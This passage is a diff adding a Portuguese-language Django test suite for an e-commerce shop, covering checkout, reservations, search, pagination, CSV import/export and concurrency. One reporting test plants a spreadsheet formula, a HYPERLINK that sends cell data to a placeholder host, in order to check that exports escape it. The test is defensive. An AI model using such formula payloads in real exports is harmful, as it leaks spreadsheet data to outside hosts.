@@ -1,3 +1,1521 @@
-from django.test import TestCase
+import asyncio
+import csv
+import importlib
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sqlite3
+import sys
+import tempfile
+import threading
+import time
+from unittest import addModuleCleanup, mock
+from pathlib import Path
+from datetime import timedelta
+from decimal import Decimal
 
-# Create your tests here.
+from asgiref.sync import iscoroutinefunction, sync_to_async
+from django.contrib.admin import site as admin_site
+from django.contrib.auth.backends import ModelBackend
+from django.contrib.auth.models import Group, Permission, User
+from django.contrib.sessions.models import Session
+from django.core import mail
+from django.core.cache import caches
+from django.core.management import call_command
+from django.core.signals import request_started
+from django.apps import apps
+from django.conf import settings
+from django.db import connection, connections
+from django.db.models.signals import post_migrate
+from django.db.models import Sum
+from django.template import Context, Template
+from django.template.base import Node
+from django.test import Client, TestCase, TransactionTestCase, override_settings
+from django.test.utils import CaptureQueriesContext
+from django.urls import clear_url_caches, resolve, reverse
+from django.utils import timezone
+from django.utils.http import urlsafe_base64_encode
+from PIL import Image, ImageOps
+
+from Projeto.sqlite import pragmas
+
+from .cache import (
+    CARIMBO_PAGINAS, CARIMBO_SITE_CONFIG, CARIMBO_USUARIOS, CSRF_MARCADOR, _ler_carimbo, invalidar_site_config,
+    obter_site_config,
+)
+from . import backup, imagens, instrumentacao, media, reservas
+from .busca import buscar_produtos, filtrar_produtos
+from .carrinho import CHAVE_SESSAO
+from .fila_contatos import FilaContatos
+from .inicializacao import aquecer, esquecer_impressao, migrar_se_preciso
+from .models import (
+    CO2_POR_PEDIDO_KG, LIXO_POR_UNIDADE_KG, Contato, Pagina, Produto, Pedido, Reserva,
+    VendaDiariaProduto, VendaDiariaUsuario,
+)
+from .reservas import com_disponivel, limpar_expiradas
+from .services import realizar_compra, finalizar_compra, EstoqueInsuficiente
+
+
+def setUpModule():
+    # Carimbos de versão, métricas e caches em arquivo numa pasta temporária:
+    # os testes não sujam a raiz do projeto nem limpam o cache de quem desenvolve
+    pasta = tempfile.mkdtemp(prefix='ecocycle-testes-')
+    isolamento = override_settings(
+        CACHE_STAMP_DIR=pasta,
+        METRICAS_DIR=os.path.join(pasta, 'metricas'),
+        CACHES={
+            nome: {**config, 'LOCATION': os.path.join(pasta, nome)}
+            if config['BACKEND'].endswith('FileBasedCache') else config
+            for nome, config in settings.CACHES.items()
+        },
+    )
+    isolamento.enable()
+    addModuleCleanup(shutil.rmtree, pasta, ignore_errors=True)
+    addModuleCleanup(isolamento.disable)
+
+
+def limpar_caches():
+    # Dentro do TestCase o on_commit dos sinais não roda: sem isto, um teste
+    # enxergaria o usuário (de mesmo id) ou a página em cache do anterior
+    invalidar_site_config()
+    caches['paginas'].clear()
+    caches['limites'].clear()
+    caches['sessoes'].clear()
+
+
+class RealizarCompraTest(TestCase):
+    def setUp(self):
+        self.usuario = User.objects.create_user('comprador', password='senha-forte-123')
+        self.produto = Produto.objects.create(nome='Notebook', estoque=3, preco=Decimal('100.00'), descricao='x')
+
+    def test_debita_estoque_e_cria_pedido(self):
+        pedido = realizar_compra(self.usuario, self.produto, 2)
+        self.produto.refresh_from_db()
+        self.assertEqual(self.produto.estoque, 1)
+        self.assertEqual(pedido.total, Decimal('200.00'))
+
+    def test_estoque_insuficiente_nao_cria_pedido(self):
+        with self.assertRaises(EstoqueInsuficiente):
+            realizar_compra(self.usuario, self.produto, 4)
+        self.produto.refresh_from_db()
+        self.assertEqual(self.produto.estoque, 3)
+        self.assertFalse(Pedido.objects.exists())
+
+
+class FinalizarCompraTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+        self.usuario = User.objects.create_user('carrinho', password='senha-forte-123')
+        self.notebook = Produto.objects.create(nome='Notebook', estoque=3, preco=Decimal('100.00'), descricao='x')
+        self.celular = Produto.objects.create(nome='Celular', estoque=1, preco=Decimal('50.00'), descricao='x')
+        self.tablet = Produto.objects.create(nome='Tablet', estoque=5, preco=Decimal('80.00'), descricao='x')
+
+    def test_compra_todos_os_itens(self):
+        with self.assertNumQueries(8):
+            # SAVEPOINT, SELECT (lock), UPDATE, DELETE das reservas, INSERT em lote,
+            # 2 UPSERTs dos agregados, RELEASE
+            pedidos = finalizar_compra(self.usuario, {self.notebook.pk: 2, self.celular.pk: 1, self.tablet.pk: 4})
+        self.assertEqual(len(pedidos), 3)
+        self.assertEqual(
+            dict(Produto.objects.values_list('nome', 'estoque')),
+            {'Notebook': 1, 'Celular': 0, 'Tablet': 1},
+        )
+        self.assertEqual(Pedido.objects.aggregate(total=Sum('total'))['total'], Decimal('570.00'))
+
+    def test_informa_as_linhas_em_falta_e_nao_grava_nada(self):
+        with self.assertRaises(EstoqueInsuficiente) as erro:
+            finalizar_compra(self.usuario, {self.notebook.pk: 2, self.celular.pk: 2, self.tablet.pk: 9})
+        self.assertEqual(
+            [(item.nome, item.quantidade, item.disponivel) for item in erro.exception.faltantes],
+            [('Celular', 2, 1), ('Tablet', 9, 5)],
+        )
+        self.assertEqual(
+            dict(Produto.objects.values_list('nome', 'estoque')),
+            {'Notebook': 3, 'Celular': 1, 'Tablet': 5},
+        )
+        self.assertFalse(Pedido.objects.exists())
+
+    def test_checkout_esvazia_o_carrinho(self):
+        self.client.force_login(self.usuario)
+        self.client.post(reverse('adicionar_ao_carrinho', args=[self.notebook.pk]), {'quantidade': 2})
+        self.client.post(reverse('adicionar_ao_carrinho', args=[self.tablet.pk]), {'quantidade': 1})
+        resposta = self.client.post(reverse('finalizar_carrinho'))
+        self.assertRedirects(resposta, reverse('perfil'))
+        self.assertEqual(Pedido.objects.count(), 2)
+        self.assertNotIn(CHAVE_SESSAO, self.client.session)
+
+    def test_produto_apagado_sai_do_carrinho(self):
+        self.client.force_login(self.usuario)
+        self.client.post(reverse('adicionar_ao_carrinho', args=[self.notebook.pk]), {'quantidade': 1})
+        self.client.post(reverse('adicionar_ao_carrinho', args=[self.tablet.pk]), {'quantidade': 1})
+        self.tablet.delete()
+
+        # O checkout não compra nada, mas tira o produto apagado do carrinho
+        resposta = self.client.post(reverse('finalizar_carrinho'), follow=True)
+        self.assertContains(resposta, 'não está mais disponível e foi removido')
+        self.assertFalse(Pedido.objects.exists())
+        self.assertEqual(self.client.session[CHAVE_SESSAO], {str(self.notebook.pk): 1})
+
+        self.assertRedirects(self.client.post(reverse('finalizar_carrinho')), reverse('perfil'))
+        self.assertEqual(list(Pedido.objects.values_list('produto__nome', flat=True)), ['Notebook'])
+
+    def test_carrinho_remove_produto_apagado(self):
+        self.client.force_login(self.usuario)
+        self.client.post(reverse('adicionar_ao_carrinho', args=[self.celular.pk]), {'quantidade': 1})
+        self.celular.delete()
+        self.assertContains(self.client.get(reverse('carrinho')), 'não está mais disponível e foi removido')
+        self.assertEqual(self.client.session[CHAVE_SESSAO], {})
+
+
+class ReservasTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+        self.ana = User.objects.create_user('ana', password='senha-forte-123')
+        self.bia = User.objects.create_user('bia', password='senha-forte-123')
+        self.produto = Produto.objects.create(nome='Notebook', estoque=1, preco=Decimal('100.00'), descricao='x')
+        self.url = reverse('comprar', args=[self.produto.pk])
+
+    def _cliente(self, usuario):
+        cliente = Client()
+        cliente.force_login(usuario)
+        return cliente
+
+    def test_reserva_segura_a_unidade_ate_a_compra(self):
+        ana, bia = self._cliente(self.ana), self._cliente(self.bia)
+        self.assertContains(ana.get(self.url), 'reservada para você')
+        # A reserva da Ana segura a única unidade: a Bia fica sabendo ao abrir a página
+        self.assertContains(bia.get(self.url), 'reservadas por outros clientes')
+        self.assertEqual(Reserva.objects.count(), 1)
+        with self.assertRaises(EstoqueInsuficiente):
+            realizar_compra(self.bia, self.produto, 1)
+        with self.assertRaises(EstoqueInsuficiente):
+            finalizar_compra(self.bia, {self.produto.pk: 1})
+
+        # A compra da Ana converte a reserva em pedido
+        self.assertRedirects(ana.post(self.url, {'quantidade': 1}), reverse('perfil'), fetch_redirect_response=False)
+        self.assertFalse(Reserva.objects.exists())
+        self.produto.refresh_from_db()
+        self.assertEqual(self.produto.estoque, 0)
+
+    def test_reserva_vencida_nao_conta_e_e_limpa(self):
+        self._cliente(self.ana).get(self.url)
+        self.assertEqual(com_disponivel(Produto.objects.all()).get().disponivel, 0)
+        Reserva.objects.update(expira_em=timezone.now() - timedelta(seconds=1))
+        self.assertEqual(com_disponivel(Produto.objects.all()).get().disponivel, 1)
+
+        # A Bia pega a unidade liberada, e a reserva dela já apaga a vencida da Ana
+        self.assertContains(self._cliente(self.bia).get(self.url), 'reservada para você')
+        self.assertEqual(list(Reserva.objects.values_list('usuario__username', flat=True)), ['bia'])
+
+    def test_cada_reserva_apaga_um_lote_limitado_de_vencidas(self):
+        outros = Produto.objects.create(nome='Monitor', estoque=50, preco=Decimal('10.00'), descricao='x')
+        vencida = timezone.now() - timedelta(minutes=1)
+        Reserva.objects.bulk_create(
+            Reserva(usuario=User.objects.create_user(f'cliente{i}'), produto=outros, expira_em=vencida)
+            for i in range(5)
+        )
+        with mock.patch.object(reservas, 'RESERVAS_VARREDURA', 3):
+            reservas.reservar(self.ana, self.produto.pk)
+            self.assertEqual(Reserva.objects.filter(expira_em__lte=timezone.now()).count(), 2)
+            # Quem não consegue reservar não escreve nada
+            reservas.reservar(self.bia, self.produto.pk)
+            self.assertEqual(Reserva.objects.filter(expira_em__lte=timezone.now()).count(), 2)
+        # O comando apaga o resto
+        self.assertEqual(limpar_expiradas(lote=1, pausa=0), 2)
+        self.assertEqual(list(Reserva.objects.values_list('usuario__username', flat=True)), ['ana'])
+
+    def test_catalogo_mostra_o_disponivel(self):
+        Produto.objects.filter(pk=self.produto.pk).update(estoque=3)
+        self._cliente(self.ana).get(self.url)
+        resposta = self.client.get(reverse('api_produto', args=[self.produto.pk]))
+        self.assertEqual((resposta.json()['estoque'], resposta.json()['disponivel']), (3, 2))
+        self.assertEqual(buscar_produtos('notebook')[0].disponivel, 2)
+
+
+class BuscaTest(TestCase):
+    def setUp(self):
+        self.notebook = Produto.objects.create(
+            nome='Notebook Acessível', estoque=2, preco=Decimal('1500.00'), descricao='Tela de 15 polegadas'
+        )
+        self.mochila = Produto.objects.create(
+            nome='Mochila', estoque=5, preco=Decimal('90.00'), descricao='Cabe um notebook de até 15"'
+        )
+        self.esgotado = Produto.objects.create(
+            nome='Notebook Gamer', estoque=0, preco=Decimal('5000.00'), descricao='x'
+        )
+
+    def nomes(self, termo):
+        return [produto.nome for produto in buscar_produtos(termo)]
+
+    def test_ignora_acentos_e_caixa_e_aceita_prefixo(self):
+        self.assertEqual(self.nomes('ACESSIVEL'), ['Notebook Acessível'])
+        self.assertEqual(self.nomes('acess'), ['Notebook Acessível'])
+
+    def test_nome_pesa_mais_que_descricao_e_esgotado_fica_de_fora(self):
+        self.assertEqual(self.nomes('notebook'), ['Notebook Acessível', 'Mochila'])
+
+    def test_triggers_mantem_o_indice(self):
+        self.mochila.nome = 'Bolsa'
+        self.mochila.descricao = 'Para viagem'
+        self.mochila.save()
+        self.notebook.delete()
+        self.assertEqual(self.nomes('notebook'), [])
+        self.assertEqual(self.nomes('viagem'), ['Bolsa'])
+        # update() sem nome/descrição (baixa de estoque) não mexe no índice
+        Produto.objects.filter(pk=self.mochila.pk).update(estoque=1)
+        self.assertEqual(self.nomes('bolsa'), ['Bolsa'])
+
+    def test_operadores_do_usuario_nao_quebram_a_consulta(self):
+        self.assertEqual(self.nomes('notebook" (15*:'), ['Notebook Acessível', 'Mochila'])
+        self.assertEqual(self.nomes('***'), [])
+
+    def test_filtro_do_admin(self):
+        encontrados = filtrar_produtos(Produto.objects.all(), 'notebook')
+        self.assertEqual(set(encontrados), {self.notebook, self.mochila, self.esgotado})
+
+    def test_admin_sem_palavras_busca_so_o_sku(self):
+        Produto.objects.filter(pk=self.mochila.pk).update(sku='-')
+        produto_admin = admin_site._registry[Produto]
+        todos = [self.notebook, self.mochila, self.esgotado]
+        for termo, esperados in (('-', [self.mochila]), ('%%', []), ('notebook', todos)):
+            with self.subTest(termo=termo):
+                encontrados, _ = produto_admin.get_search_results(None, Produto.objects.all(), termo)
+                self.assertEqual(set(encontrados), set(esperados))
+
+
+class ApiCatalogoTest(TestCase):
+    def setUp(self):
+        self.produtos = [
+            Produto.objects.create(nome=f'Produto {i}', estoque=i % 2, preco=Decimal('10.00'), descricao='x')
+            for i in range(5)
+        ]
+
+    def test_paginacao_por_cursor_e_filtro_de_estoque(self):
+        primeira = self.client.get(reverse('api_produtos'), {'limite': 2}).json()
+        self.assertEqual([p['id'] for p in primeira['produtos']], [self.produtos[4].pk, self.produtos[3].pk])
+        segunda = self.client.get(primeira['proximo']).json()
+        self.assertEqual([p['id'] for p in segunda['produtos']], [self.produtos[2].pk, self.produtos[1].pk])
+
+        em_estoque = self.client.get(reverse('api_produtos'), {'em_estoque': 1}).json()
+        self.assertEqual({p['estoque'] for p in em_estoque['produtos']}, {1})
+        self.assertIsNone(em_estoque['proximo'])
+
+    def test_304_sem_consultar_a_pagina(self):
+        resposta = self.client.get(reverse('api_produtos'))
+        self.assertIn('public', resposta['Cache-Control'])
+        with self.assertNumQueries(1):
+            # Só o agregado max(atualizado_em)/count
+            repetida = self.client.get(reverse('api_produtos'), HTTP_IF_NONE_MATCH=resposta['ETag'])
+        self.assertEqual(repetida.status_code, 304)
+        self.assertEqual(repetida['ETag'], resposta['ETag'])
+
+    def test_compra_muda_o_etag(self):
+        url = reverse('api_produto', args=[self.produtos[1].pk])
+        etag_lista = self.client.get(reverse('api_produtos'))['ETag']
+        etag = self.client.get(url)['ETag']
+        usuario = User.objects.create_user('api', password='senha-forte-123')
+        realizar_compra(usuario, self.produtos[1], 1)
+        self.assertEqual(self.client.get(url, HTTP_IF_NONE_MATCH=etag).status_code, 200)
+        self.assertNotEqual(self.client.get(reverse('api_produtos'))['ETag'], etag_lista)
+
+    def test_produto_inexistente(self):
+        self.assertEqual(self.client.get(reverse('api_produto', args=[999])).status_code, 404)
+
+
+class ImportExportProdutosTest(TestCase):
+    def importar(self, conteudo, sufixo='.csv', **opcoes):
+        with tempfile.NamedTemporaryFile('w', suffix=sufixo, delete=False, encoding='utf-8') as arquivo:
+            arquivo.write(conteudo)
+        self.addCleanup(os.remove, arquivo.name)
+        saida, erros = io.StringIO(), io.StringIO()
+        call_command('import_produtos', arquivo.name, stdout=saida, stderr=erros, **opcoes)
+        return saida.getvalue(), erros.getvalue()
+
+    def test_cria_atualiza_pelo_sku_e_ignora_linhas_invalidas(self):
+        Produto.objects.create(sku='A1', nome='Antigo', estoque=1, preco=Decimal('1.00'), descricao='x')
+        saida, erros = self.importar(
+            'sku,nome,descricao,preco,estoque\n'
+            'A1,Notebook Dell,Seminovo,"1299,90",3\n'
+            'B2,Monitor LG,Grade A,499.00,0\n'
+            'C3,Preço ruim,x,abc,1\n'
+            'D4,Estoque ruim,x,10,-2\n'
+            ',Sem sku,x,10,1\n',
+            lote=1,
+        )
+        self.assertIn('1 criados, 1 atualizados, 3 com erro', saida)
+        self.assertIn('Linha 4: preço inválido', erros)
+        self.assertIn('Linha 5: estoque negativo', erros)
+        self.assertIn('Linha 6: sku vazio', erros)
+        self.assertEqual(
+            list(Produto.objects.order_by('sku').values_list('sku', 'nome', 'preco', 'estoque')),
+            [('A1', 'Notebook Dell', Decimal('1299.90'), 3), ('B2', 'Monitor LG', Decimal('499.00'), 0)],
+        )
+        # O índice de busca acompanha o upsert (triggers de INSERT e UPDATE)
+        self.assertEqual([p.sku for p in buscar_produtos('dell')], ['A1'])
+
+    def test_exporta_e_reimporta_jsonl(self):
+        Produto.objects.create(sku='A1', nome='Tablet Acessível', estoque=2, preco=Decimal('10.50'), descricao='x')
+        saida = io.StringIO()
+        call_command('export_produtos', formato='jsonl', stdout=saida)
+        Produto.objects.update(nome='Alterado', estoque=0)
+        resultado, _ = self.importar(saida.getvalue(), sufixo='.jsonl')
+        self.assertIn('0 criados, 1 atualizados, 0 com erro', resultado)
+        produto = Produto.objects.get()
+        self.assertEqual((produto.nome, produto.estoque, produto.preco), ('Tablet Acessível', 2, Decimal('10.50')))
+
+    def test_foto_com_mesmo_nome_e_tamanho_mas_outro_conteudo_nao_e_reaproveitada(self):
+        with tempfile.TemporaryDirectory() as midia, tempfile.TemporaryDirectory() as pasta, \
+                override_settings(MEDIA_ROOT=midia):
+            # BMP sem compressão: mesmas dimensões, mesmo número de bytes
+            Image.new('RGB', (40, 30), 'green').save(os.path.join(pasta, 'foto.bmp'))
+            self.importar('sku,nome,descricao,preco,estoque,foto\nA1,Verde,x,10,1,foto.bmp\n', pasta_imagens=pasta)
+            self.importar('sku,nome,descricao,preco,estoque,foto\nA2,Verde,x,10,1,foto.bmp\n', pasta_imagens=pasta)
+            Image.new('RGB', (40, 30), 'red').save(os.path.join(pasta, 'foto.bmp'))
+            self.importar('sku,nome,descricao,preco,estoque,foto\nB1,Vermelho,x,10,1,foto.bmp\n', pasta_imagens=pasta)
+
+            fotos = dict(Produto.objects.values_list('sku', 'foto'))
+            self.assertEqual(fotos['A1'], 'produtos/foto.bmp')
+            self.assertEqual(fotos['A2'], 'produtos/foto.bmp')
+            self.assertNotEqual(fotos['B1'], fotos['A1'])
+            with Image.open(os.path.join(midia, fotos['A1'])) as verde, \
+                    Image.open(os.path.join(midia, fotos['B1'])) as vermelho:
+                self.assertEqual(verde.getpixel((0, 0)), (0, 128, 0))
+                self.assertEqual(vermelho.getpixel((0, 0)), (255, 0, 0))
+
+
+class RelatoriosTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+        self.admin = User.objects.create_superuser('admin', 'admin@x.com', 'senha-admin-123')
+        self.client.force_login(self.admin)
+        sessao = self.client.session
+        sessao['auth_type'] = 'admin'  # sessão do admin (SeparateAdminAuthMiddleware)
+        sessao.save()
+        self.produto = Produto.objects.create(sku='N1', nome='Notebook, Dell', estoque=50, preco=Decimal('10.00'), descricao='x')
+
+    def criar_pedidos(self, quantidade):
+        for i in range(Pedido.objects.count(), Pedido.objects.count() + quantidade):
+            usuario = User.objects.create_user(f'cliente{i}', f'cliente{i}@x.com')
+            Pedido.objects.create(usuario=usuario, produto=self.produto, quantidade=1, total=Decimal('10.00'))
+
+    def test_acao_do_admin_exporta_pedidos_em_streaming(self):
+        self.criar_pedidos(2)
+        ids = list(Pedido.objects.values_list('pk', flat=True))
+        resposta = self.client.post(
+            reverse('admin:app_pedido_changelist'), {'action': 'exportar_csv', '_selected_action': ids}
+        )
+        self.assertTrue(resposta.streaming)
+        self.assertIn('attachment; filename="pedidos-', resposta['Content-Disposition'])
+        linhas = b''.join(resposta.streaming_content).decode('utf-8-sig').splitlines()
+        self.assertEqual(linhas[0], 'Pedido,Data,Usuário,E-mail,Produto,SKU,Quantidade,Total')
+        self.assertEqual(len(linhas), 3)
+        self.assertIn(',cliente0,cliente0@x.com,"Notebook, Dell",N1,1,10.00', linhas[1])
+
+    async def test_no_asgi_o_csv_sai_em_blocos_async(self):
+        await sync_to_async(self.criar_pedidos)(3)
+        ids = [pk async for pk in Pedido.objects.values_list('pk', flat=True)]
+        await self.async_client.aforce_login(self.admin)
+        sessao = await self.async_client.asession()
+        await sessao.aset('auth_type', 'admin')
+        await sessao.asave()
+        with mock.patch('app.relatorios.TAMANHO_BLOCO', 1):
+            resposta = await self.async_client.post(
+                reverse('admin:app_pedido_changelist'), {'action': 'exportar_csv', '_selected_action': ids}
+            )
+            # Um iterador async: o Django não junta tudo na memória antes de enviar
+            self.assertTrue(resposta.is_async)
+            blocos = [bloco async for bloco in resposta.streaming_content]
+        self.assertEqual(len(blocos), 4)  # cabeçalho + um bloco por pedido
+        self.assertEqual(b''.join(blocos).decode('utf-8-sig').count('\n'), 4)
+
+    def test_texto_que_comeca_como_formula_sai_como_texto(self):
+        Contato.objects.create(
+            nome='@Ana', email='ana@x.com', mensagem='=HYPERLINK("http://x.invalid/?d="&A1,"Clique")',
+        )
+        saida = io.StringIO()
+        call_command('export_relatorio', 'contatos', stdout=saida)
+        linha = next(csv.reader(saida.getvalue().lstrip('\ufeff').splitlines()[1:]))
+        self.assertEqual(linha[2:], ["'@Ana", 'ana@x.com', '\'=HYPERLINK("http://x.invalid/?d="&A1,"Clique")'])
+
+    def test_lista_de_pedidos_nao_consulta_por_linha(self):
+        self.criar_pedidos(1)
+        url = reverse('admin:app_pedido_changelist')
+        self.client.get(url)  # sessão e permissões já carregadas
+        with CaptureQueriesContext(connection) as poucos:
+            self.client.get(url)
+        with self.captureOnCommitCallbacks(execute=True):
+            self.criar_pedidos(5)
+        self.client.get(url)  # usuários novos invalidam o usuário em cache
+        with CaptureQueriesContext(connection) as muitos:
+            resposta = self.client.get(url)
+        self.assertContains(resposta, 'cliente5')
+        self.assertEqual(len(muitos), len(poucos))
+
+    def test_comando_exporta_contatos_por_periodo(self):
+        Contato.objects.create(nome='Ana', email='ana@x.com', mensagem='Olá')
+        antigo = Contato.objects.create(nome='Beto', email='beto@x.com', mensagem='Antigo')
+        Contato.objects.filter(pk=antigo.pk).update(criado_em=timezone.now() - timedelta(days=10))
+        saida = io.StringIO()
+        desde = (timezone.localdate() - timedelta(days=1)).isoformat()
+        call_command('export_relatorio', 'contatos', desde=desde, stdout=saida)
+        linhas = saida.getvalue().lstrip('\ufeff').splitlines()
+        self.assertEqual(len(linhas), 2)
+        self.assertTrue(linhas[1].endswith(',Ana,ana@x.com,Olá'))
+
+
+class PaginacaoPerfilTest(TestCase):
+    """Histórico do perfil paginado por cursor (data, id): app/paginacao.py."""
+
+    def setUp(self):
+        limpar_caches()
+        self.usuario = User.objects.create_user('paula')
+        produto = Produto.objects.create(nome='Notebook', estoque=10, preco=Decimal('10.00'), descricao='x')
+        Pedido.objects.bulk_create(
+            Pedido(usuario=self.usuario, produto=produto, quantidade=1, total=Decimal('10.00')) for _ in range(5)
+        )
+        # Quatro pedidos no mesmo instante: só o id desempata
+        instante = timezone.now() - timedelta(days=1)
+        primeiros = Pedido.objects.order_by('pk').values_list('pk', flat=True)[:4]
+        Pedido.objects.filter(pk__in=list(primeiros)).update(data=instante)
+        self.esperados = list(Pedido.objects.order_by('-data', '-id').values_list('pk', flat=True))
+        self.client.force_login(self.usuario)
+        patcher = mock.patch('app.views.PEDIDOS_POR_PAGINA', 2)
+        patcher.start()
+        self.addCleanup(patcher.stop)
+
+    def _pagina(self, cursor=None):
+        resposta = self.client.get(reverse('perfil'), {'cursor': cursor} if cursor else {})
+        self.assertEqual(resposta.status_code, 200)
+        return [pedido.pk for pedido in resposta.context['pedidos']], resposta.context['proximo_cursor']
+
+    def test_cursor_percorre_todos_os_pedidos_sem_repetir_nem_pular(self):
+        vistos, cursor, paginas = [], None, 0
+        while True:
+            pedidos, cursor = self._pagina(cursor)
+            vistos += pedidos
+            paginas += 1
+            if cursor is None:
+                break
+        self.assertEqual(vistos, self.esperados)
+        self.assertEqual(paginas, 3)
+        # A última página não oferece próxima
+        self.assertEqual(len(pedidos), 1)
+
+    def test_cursor_invalido_volta_para_a_primeira_pagina(self):
+        primeira, _ = self._pagina()
+        for cursor in (
+            'lixo', '!!!', urlsafe_base64_encode(b'sem-separador'), urlsafe_base64_encode(b'nao-e-data|1'),
+            urlsafe_base64_encode(b'2026-10-18T12:00:00+00:00|abc'),
+            urlsafe_base64_encode(f'2999-01-01T00:00:00+00:00|{10 ** 30}'.encode()),
+            urlsafe_base64_encode(b'\xff\xfe|1'),
+        ):
+            with self.subTest(cursor=cursor):
+                self.assertEqual(self._pagina(cursor)[0], primeira)
+
+
+class AgregadosVendasTest(TestCase):
+    def setUp(self):
+        self.ana = User.objects.create_user('ana', password='senha-forte-123')
+        self.beto = User.objects.create_user('beto', password='senha-forte-123')
+        self.notebook = Produto.objects.create(nome='Notebook', estoque=10, preco=Decimal('100.00'), descricao='x')
+        self.tablet = Produto.objects.create(nome='Tablet', estoque=10, preco=Decimal('80.50'), descricao='x')
+
+    def agregados(self):
+        return {
+            'produtos': list(VendaDiariaProduto.objects.order_by('produto_id').values_list(
+                'dia', 'produto_id', 'pedidos', 'unidades', 'receita', 'co2_kg', 'lixo_kg')),
+            'usuarios': list(VendaDiariaUsuario.objects.order_by('usuario_id').values_list(
+                'dia', 'usuario_id', 'pedidos', 'unidades', 'receita', 'co2_kg', 'lixo_kg')),
+        }
+
+    def test_compras_somam_aos_agregados_do_dia_e_reconstrucao_confere(self):
+        realizar_compra(self.ana, self.notebook, 2)
+        finalizar_compra(self.ana, {self.notebook.pk: 1, self.tablet.pk: 2})
+        finalizar_compra(self.beto, {self.tablet.pk: 1})
+        hoje = timezone.localdate()
+        incremental = self.agregados()
+        self.assertEqual(incremental['produtos'], [
+            (hoje, self.notebook.pk, 2, 3, Decimal('300.00'), 2 * CO2_POR_PEDIDO_KG, 3 * LIXO_POR_UNIDADE_KG),
+            (hoje, self.tablet.pk, 2, 3, Decimal('241.50'), 2 * CO2_POR_PEDIDO_KG, 3 * LIXO_POR_UNIDADE_KG),
+        ])
+        self.assertEqual([linha[1:5] for linha in incremental['usuarios']], [
+            (self.ana.pk, 3, 5, Decimal('461.00')),
+            (self.beto.pk, 1, 1, Decimal('80.50')),
+        ])
+
+        saida = io.StringIO()
+        call_command('reconstruir_agregados', stdout=saida)
+        self.assertEqual(self.agregados(), incremental)
+
+    def test_pedido_excluido_sai_dos_agregados(self):
+        finalizar_compra(self.ana, {self.notebook.pk: 1, self.tablet.pk: 2})
+        realizar_compra(self.beto, self.tablet, 1)
+        Pedido.objects.filter(usuario=self.ana, produto=self.tablet).delete()
+        incremental = self.agregados()
+        self.assertEqual([linha[1:5] for linha in incremental['produtos']], [
+            (self.notebook.pk, 1, 1, Decimal('100.00')),
+            (self.tablet.pk, 1, 1, Decimal('80.50')),
+        ])
+        call_command('reconstruir_agregados', stdout=io.StringIO())
+        self.assertEqual(self.agregados(), incremental)
+
+        # Exclusão em cascata do cliente também desconta dos produtos
+        self.beto.delete()
+        self.assertEqual(VendaDiariaProduto.objects.get(produto=self.tablet).pedidos, 0)
+
+    def test_migracao_carrega_o_historico(self):
+        finalizar_compra(self.ana, {self.notebook.pk: 1, self.tablet.pk: 2})
+        esperado = self.agregados()
+        VendaDiariaProduto.objects.all().delete()
+        VendaDiariaUsuario.objects.all().delete()
+        migracao = importlib.import_module('app.migrations.0006_vendas_diarias')
+        migracao.carregar_historico(apps, None)
+        self.assertEqual(self.agregados(), esperado)
+
+    def test_perfil_sem_pedidos_mostra_zero(self):
+        self.client.force_login(self.ana)
+        resposta = self.client.get(reverse('perfil'))
+        self.assertNotContains(resposta, 'None')
+        self.assertContains(resposta, '<div class="stat-value">0</div>', html=True)
+
+    def test_painel_le_so_os_agregados(self):
+        finalizar_compra(self.ana, {self.notebook.pk: 1, self.tablet.pk: 1})
+        admin = User.objects.create_superuser('admin', 'admin@x.com', 'senha-admin-123')
+        self.client.force_login(admin)
+        sessao = self.client.session
+        sessao['auth_type'] = 'admin'
+        sessao.save()
+        with CaptureQueriesContext(connection) as consultas:
+            resposta = self.client.get(reverse('painel_vendas'), {'dias': 7})
+        self.assertContains(resposta, 'R$ 180,50')
+        self.assertContains(resposta, 'ana')
+        tabelas = ' '.join(consulta['sql'] for consulta in consultas)
+        self.assertNotIn('app_pedido', tabelas)
+
+
+class PerfilSqliteTest(TestCase):
+    """PRAGMAs de Projeto/sqlite.py aplicados pelo init_command."""
+
+    def ler_pragmas(self, conexao):
+        valores = {}
+        with conexao.cursor() as cursor:
+            for nome in ('journal_mode', 'busy_timeout', 'synchronous', 'foreign_keys'):
+                cursor.execute(f'PRAGMA {nome}')
+                valores[nome] = cursor.fetchone()[0]
+        return valores
+
+    def test_pragmas_de_producao(self):
+        esperados = {
+            'journal_mode': 'wal',
+            'busy_timeout': int(pragmas()['busy_timeout']),
+            'synchronous': 1,  # NORMAL
+            'foreign_keys': 1,
+        }
+        self.assertEqual(self.ler_pragmas(connection), esperados)
+        # Também numa conexão nova (cada thread do ASGI abre a sua)
+        nova = connections.create_connection('default')
+        try:
+            self.assertEqual(self.ler_pragmas(nova), esperados)
+        finally:
+            nova.close()
+
+
+class CompraConcorrenteTest(TransactionTestCase):
+    """
+    Várias threads disputando o mesmo produto: nenhuma unidade pode
+    ser vendida duas vezes.
+    """
+    THREADS = 16
+    TENTATIVAS_POR_THREAD = 10
+    ESTOQUE_INICIAL = 25
+
+    def test_sem_venda_acima_do_estoque(self):
+        usuario = User.objects.create_user('concorrente', password='senha-forte-123')
+        produto = Produto.objects.create(
+            nome='Celular', estoque=self.ESTOQUE_INICIAL, preco=Decimal('10.00'), descricao='x'
+        )
+        inicio = threading.Barrier(self.THREADS)
+        resultados = {'vendidos': 0, 'recusados': 0}
+        erros = []
+        lock = threading.Lock()
+
+        def comprador():
+            inicio.wait()
+            try:
+                for _ in range(self.TENTATIVAS_POR_THREAD):
+                    try:
+                        realizar_compra(usuario, produto, 1)
+                        chave = 'vendidos'
+                    except EstoqueInsuficiente:
+                        chave = 'recusados'
+                    with lock:
+                        resultados[chave] += 1
+            except Exception as erro:
+                # "database is locked" aqui é falha: o busy_timeout deve enfileirar as escritas
+                erros.append(erro)
+            finally:
+                connection.close()
+
+        threads = [threading.Thread(target=comprador) for _ in range(self.THREADS)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+
+        self.assertEqual(erros, [])
+        produto.refresh_from_db()
+        vendidos = Pedido.objects.filter(produto=produto).aggregate(total=Sum('quantidade'))['total'] or 0
+        # Há mais tentativas que unidades: todas vendidas, nenhuma a mais
+        self.assertEqual(vendidos, self.ESTOQUE_INICIAL)
+        self.assertEqual(resultados['vendidos'], self.ESTOQUE_INICIAL)
+        self.assertEqual(produto.estoque, 0)
+
+
+class FilaContatosTest(TransactionTestCase):
+    def setUp(self):
